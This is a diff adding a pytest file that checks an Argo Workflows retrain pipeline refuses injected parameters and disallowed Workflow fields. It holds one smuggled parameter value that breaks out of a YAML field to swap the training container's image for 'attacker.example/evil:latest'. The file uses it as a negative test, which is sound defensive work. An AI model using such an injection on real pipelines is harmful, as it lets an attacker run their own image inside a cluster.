@@ -1,0 +1,121 @@
+"""Who may create a Workflow cannot choose what it runs: Argo runs only WorkflowTemplates
+(`workflowRestrictions.templateReferencing: Secure`), a submitted Workflow may set only Argo's allow-listed
+fields, and every retrain parameter is an enum, so no value can change the TFJob manifest it is substituted into.
+The submission checks below follow argo-workflows v4.0.6: `workflow/util/merge.go` (`allowedUserOverrideFields`,
+`ValidateUserOverrides`) and `workflow/validate/validate.go` (`validateArgumentsValues`: a parameter with an
+`enum` must have a value equal, as a string, to one of it)."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+import yaml
+
+from infra.argo import RESTRICTION
+
+# The WorkflowSpec fields (as JSON names) a Workflow may set under Strict/Secure (merge.go's allow-list).
+ALLOWED_OVERRIDES = {
+    "arguments", "entrypoint", "shutdown", "suspend", "activeDeadlineSeconds", "priority", "ttlStrategy", "podGC",
+    "volumeClaimGC", "archiveLogs", "workflowMetadata", "workflowTemplateRef", "metrics", "artifactGC",
+}  # fmt: skip
+# Closes the quoted `--epochs` value, sets the container's image again (the later key wins), and turns the
+# command's remaining items into `args`.
+INJECTION = "1'\n            image: attacker.example/evil:latest\n            args:\n            - 'x"
+
+
+class Refused(Exception):
+    pass
+
+
+def submit(template: dict, workflow_spec: dict) -> dict:
+    """What Argo makes of `argo submit --from workflowtemplate/...`: refuses a Workflow that sets fields outside
+    the allow-list, or a parameter value outside its enum; otherwise returns the parameters' values."""
+    extra = sorted(set(workflow_spec) - ALLOWED_OVERRIDES)
+    if extra:
+        raise Refused(f"fields {extra} are not permitted when using workflowTemplateRef")
+    given = {p["name"]: p["value"] for p in (workflow_spec.get("arguments") or {}).get("parameters", [])}
+    values = {}
+    for p in template["spec"]["arguments"]["parameters"]:
+        value = given.get(p["name"], p.get("value"))
+        if "enum" in p and value not in p["enum"]:
+            raise Refused(f"spec.arguments.{p['name']}.value should be present in spec.arguments.{p['name']}.enum list")
+        values[p["name"]] = value
+    return values
+
+
+def _train_manifest(template: dict) -> str:
+    (train,) = [t for t in template["spec"]["templates"] if t["name"] == "train"]
+    return train["resource"]["manifest"]
+
+
+def _fill(text: str, values: dict) -> str:
+    for name, value in values.items():
+        text = text.replace(f"{{{{workflow.parameters.{name}}}}}", value)
+    return text
+
+
+def manifest_with(template: dict, values: dict) -> dict:
+    """The train step's TFJob after Argo's text substitution of `{{workflow.parameters.*}}`."""
+    return yaml.safe_load(_fill(_train_manifest(template), values))
+
+
+def meant(template: dict, values: dict) -> dict:
+    """The TFJob with each value put in as one whole string where its placeholder stands: what a value means."""
+
+    def walk(obj):
+        if isinstance(obj, dict):
+            return {k: walk(v) for k, v in obj.items()}
+        if isinstance(obj, list):
+            return [walk(v) for v in obj]
+        return _fill(obj, values) if isinstance(obj, str) else obj
+
+    return walk(yaml.safe_load(_train_manifest(template)))
+
+
+def test_the_controller_runs_only_unchanged_templates(renders):
+    for name in ("dev", "prod"):
+        values = next(
+            c for c in renders.variant(name).by_type("kubernetes:helm.sh/v4:Chart") if c["name"] == "argo-workflows"
+        )["inputs"]["values"]
+        assert values["controller"]["workflowRestrictions"] == {"templateReferencing": "Secure"} == {
+            "templateReferencing": RESTRICTION
+        }
+
+
+def test_the_stacks_own_workflow_references_its_template(stack):
+    (wf,) = stack.find("Workflow")
+    assert set(wf["spec"]) <= ALLOWED_OVERRIDES
+    assert stack.one("WorkflowTemplate", wf["spec"]["workflowTemplateRef"]["name"])
+
+
+def test_every_retrain_parameter_is_an_enum_of_plain_numbers(stack):
+    template = stack.one("WorkflowTemplate", "retrain-mnist")
+    params = template["spec"]["arguments"]["parameters"]
+    assert [p["name"] for p in params] == ["epochs", "batch-size", "learning-rate"]
+    for p in params:
+        assert p["value"] in p["enum"], p
+        assert all(re.fullmatch(r"[0-9]+(\.[0-9]+)?", v) for v in p["enum"]), p
+
+
+def test_an_injected_parameter_is_refused_and_no_allowed_value_changes_the_manifest(stack):
+    template = stack.one("WorkflowTemplate", "retrain-mnist")
+    ref = {"workflowTemplateRef": {"name": "retrain-mnist"}}
+    # `argo submit --from workflowtemplate/retrain-mnist -p epochs=$'1\n        image: ...'`
+    with pytest.raises(Refused, match="epochs.value should be present"):
+        submit(template, {**ref, "arguments": {"parameters": [{"name": "epochs", "value": INJECTION}]}})
+    # Without the enum, the same value would have replaced the TFJob's image: what the enum stops.
+    injected = {"epochs": INJECTION, "batch-size": "64", "learning-rate": "0.003"}
+    assert manifest_with(template, injected) != meant(template, injected)
+    chief = manifest_with(template, injected)["spec"]["tfReplicaSpecs"]["Chief"]["template"]["spec"]
+    assert chief["containers"][0]["image"] == "attacker.example/evil:latest"
+    # Picking the account or a volume in the Workflow itself is refused too.
+    with pytest.raises(Refused, match="serviceAccountName"):
+        submit(template, {**ref, "serviceAccountName": "serving"})
+    with pytest.raises(Refused, match="volumes"):
+        submit(template, {**ref, "volumes": [{"name": "x", "secret": {"secretName": "minio-root"}}]})
+    # Every value the enums allow means exactly itself in the manifest.
+    for p in template["spec"]["arguments"]["parameters"]:
+        for v in p["enum"]:
+            values = submit(template, {**ref, "arguments": {"parameters": [{"name": p["name"], "value": v}]}})
+            assert manifest_with(template, values) == meant(template, values), (p["name"], v)
